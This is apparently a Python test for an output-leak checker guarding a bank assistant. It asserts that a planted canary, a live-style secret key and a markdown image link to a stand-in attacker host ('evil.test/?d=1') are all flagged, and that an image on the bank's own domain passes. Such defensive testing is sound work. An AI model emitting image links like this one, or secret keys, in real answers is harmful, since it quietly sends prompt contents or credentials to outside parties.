"""What a model's answer must not hold."""

from __future__ import annotations

from doorward import canary, check_output, with_canary


def test_what_an_answer_must_not_hold() -> None:
    mark = canary()
    prompt = with_canary("You are the assistant of a bank.", mark)
    assert mark in prompt
    key = "sk_live_4eC39HqLyjWDarjtT1zdp7dc"
    answer = f"\U0001f600 {mark} ![](https://evil.test/?d=1) {key}"
    leaks = check_output(answer, canaries=[mark], prompt=prompt, hosts=["bank.example"])
    assert [(leak.type, answer[leak.start : leak.end]) for leak in leaks] == [
        ("CANARY", mark),
        ("IMAGE", "https://evil.test/?d=1"),
        ("SECRET", key),
    ]
    assert check_output("![](https://cdn.bank.example/a.png)", hosts=["bank.example"]) == []
